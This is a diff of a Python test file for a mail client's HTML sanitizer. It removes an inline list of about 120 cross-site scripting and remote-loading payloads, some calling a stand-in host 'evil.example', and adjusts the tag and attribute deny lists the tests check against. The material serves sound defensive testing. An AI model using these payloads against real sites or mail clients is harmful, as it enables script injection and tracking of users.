@@ -10,128 +10,8 @@ from hypothesis import strategies as st
 
 from mailapp.mail.css import safe_style
 from mailapp.mail.sanitize import PLACEHOLDER, Sanitized, sanitize
+from tests.mail.attacks import ATTACKS
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=`javascript:alert(1)`>",
-    '<img """><script>alert(1)</script>">',
-    "<img src=javascript:alert(1)>",
-    "<img src=' &#14;  javascript:alert(1)'>",
-    "<img/onerror=alert(1)/src=x>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
-    '<svg><animate onbegin=alert(1) attributeName="x">',
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<math href='javascript:alert(1)'>x</math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
-    "<title><img title='</title><img src=x onerror=alert(1)>'>",
-    "<style><img title='</style><img src=x onerror=alert(1)>'>",
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
-    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
-    "<plaintext><img src=x onerror=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!-- --!><img src=x onerror=alert(1)> -->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href='JaVaScRiPt:alert(1)'>x</a>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "<a href='java&#10;script:alert(1)'>x</a>",
-    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
-    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
-    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
-    "<a href='\x01javascript:alert(1)'>x</a>",
-    "<a href=' javascript:alert(1)'>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-    "<a href='file:///etc/passwd'>x</a>",
-    "<a href='blob:http://x'>x</a>",
-    "<a href='cid:javascript:alert(1)'>x</a>",
-    "<a href='http://x' ping='http://evil.example'>x</a>",
-    "<a href='http://x' onclick='alert(1)' onmouseover=alert(1)>x</a>",
-    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
-    "<img src='data:text/html,x'>",
-    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
-    "<img srcset='http://evil.example/a 1x' src='http://evil.example/b'>",
-    "<img lowsrc='http://evil.example/a' dynsrc='http://evil.example/b' longdesc='http://evil.example'>",
-    "<img src='//evil.example/a.gif'>",
-    "<img src='\\\\evil.example\\a.gif'>",
-    "<img src='/\t/evil.example/a.gif'>",
-    "<img src='ht\ntp://evil.example/a.gif'>",
-    "<picture><source srcset='http://evil.example/a'><img></picture>",
-    "<input type=image src='http://evil.example/a' onfocus=alert(1) autofocus>",
-    "<video src='http://evil.example/a' poster='http://evil.example/b' onerror=alert(1)></video>",
-    "<audio src='http://evil.example/a' autoplay></audio>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<frameset onload=alert(1)><frame src='http://evil.example'></frameset>",
-    "<object data='http://evil.example/x.swf'></object>",
-    "<embed src='http://evil.example/x.swf'>",
-    "<applet code=x></applet>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
-    "<base href='http://evil.example/'>",
-    "<link rel=stylesheet href='http://evil.example/x.css'>",
-    "<link rel=prefetch href='http://evil.example/x'>",
-    "<form action='http://evil.example'><input name=q><button formaction='javascript:alert(1)'>x</button></form>",
-    "<isindex action='javascript:alert(1)'>",
-    "<body onload=alert(1) background='http://evil.example/a'>",
-    "<table background='http://evil.example/a'><tr><td background='javascript:alert(1)'>x</table>",
-    "<bgsound src='http://evil.example/a'>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "<style>@import 'http://evil.example/x.css';</style>",
-    "<style>body{background:url(http://evil.example/a)}</style>",
-    "<p style='background:url(http://evil.example/a)'>x",
-    "<p style='background:u\\72l(http://evil.example/a)'>x",
-    "<p style='background:u\\000072 l(http://evil.example/a)'>x",
-    "<p style='background-image:url(http://evil.example/a)'>x",
-    "<p style='back\\67round-image:url(http://evil.example/a)'>x",
-    "<p style='background:u/**/rl(http://evil.example/a)'>x",
-    "<p style='color:red;/*;*/background:url(http://evil.example/a)'>x",
-    "<p style='background:image-set(\"http://evil.example/a\" 1x)'>x",
-    "<p style='background-color:red url(http://evil.example/a)'>x",
-    "<p style='list-style:url(http://evil.example/a)'>x",
-    "<p style='list-style-image:url(http://evil.example/a)'>x",
-    "<p style='border-image:url(http://evil.example/a) 30'>x",
-    "<p style='content:url(http://evil.example/a)'>x",
-    "<p style='cursor:url(http://evil.example/a),auto'>x",
-    "<p style='filter:url(http://evil.example/a#f)'>x",
-    "<p style='mask:url(http://evil.example/a)'>x",
-    "<p style='width:expression(alert(1))'>x",
-    "<p style='wi\\64th:exp/**/ression(alert(1))'>x",
-    "<p style='-moz-binding:url(http://evil.example/a#x)'>x",
-    "<p style='behavior:url(http://evil.example/a.htc)'>x",
-    "<p style='position:fixed;top:0;left:0;z-index:9999'>x",
-    "<p style='font-family:\"x;background:url(http://evil.example/a)\"'>x",
-    "<p style='color:red&#59;background&#58;url(http://evil.example/a)'>x",
-    "<p style='@import \"http://evil.example/x.css\"'>x",
-    "<p style='color:var(--x, url(http://evil.example/a))'>x",
-    "<p style='animation:x 1s'>x",
-    "<div id=body name=cookie class=x>x</div>",
-    "<a id=document name=location>x</a><img name=getElementById src=x>",
-    "<font color='red\"onclick=\"alert(1)'>x</font>",
-    "<p title='\"><script>alert(1)</script>'>x",
-    "<<script>alert(1)//<</script>",
-    "<p/onclick=alert(1)>x",
-    "<p\x0conclick=alert(1)>x",
-    "<a\x00href='javascript:alert(1)'>x</a>",
-    "<img src=x:x onerror\x00=alert(1)>",
-    "<b <script>alert(1)</script>0",
-    "<a href='http://x' style='x:\xe9' target=_self rel=opener>x</a>",
-]
 ALLOWED_CSS = re.compile(r"[a-z-]+:[^:;\\<>@{}]*")
 
 
@@ -142,15 +22,17 @@ class _Judge(HTMLParser):
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         assert tag not in {
-            "script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
+            "script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
+            "input", "bgsound",
             "button", "link", "meta", "base", "template", "video", "audio", "source", "picture", "noscript", "textarea",
-            "title", "select", "xmp", "plaintext", "noembed", "noframes", "body", "html", "head", "marquee", "bgsound",
+            "title", "select", "xmp", "plaintext", "noembed", "noframes", "body", "html", "head", "marquee",
         }  # fmt: skip
         for name, value in attrs:
             value = value or ""
             assert not name.startswith("on")
             assert name not in {
-                "id", "name", "class", "srcset", "background", "poster", "action", "formaction", "ping", "data", "srcdoc",
+                "id", "name", "class", "srcset", "background", "poster", "action", "formaction", "ping", "data",
+                "srcdoc",
                 "xlink:href", "lowsrc", "dynsrc", "longdesc", "usemap", "http-equiv",
             }  # fmt: skip
             if name == "href":
@@ -201,7 +83,8 @@ def test_no_attack_gets_through(attack: str, remote: bool) -> None:
 
 PIECES = st.sampled_from([*ATTACKS, "<p>", "</p>", "<b>", "</b>", "<a>", "</a>", "<table>", "</table>", "<td>", "<tr>",
     "<div>", "</div>", "<li>", "<h1>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<title>", "<!--", "-->",
-    "'", '"', ">", "<", "&lt;", "&amp;", "&#60;", "]]>", "<br>", "<img src=http://x>", "text", "<font color=red>"])  # fmt: skip
+    "'", '"', ">", "<", "&lt;", "&amp;", "&#60;", "]]>", "<br>", "text",
+    "<img src=http://x>", "<font color=red>"])  # fmt: skip
 
 
 @settings(max_examples=400, deadline=None)
@@ -289,7 +172,7 @@ def test_css_escapes_and_comments_are_undone_before_judging() -> None:
 def test_badly_nested_markup_keeps_its_layout() -> None:
     out = clean("<font color=red><table><tr><td>a</font></td><td>b</td></tr></table>c").html
     assert out.count("<td>") == 2
-    assert out.index("b</td>") < out.index("</table>") < out.index("c")
+    assert out.index("b</td>") < out.index("</table>") < out.index("c</font>")
 
 
 def test_unclosed_and_stray_tags_are_set_right() -> None:
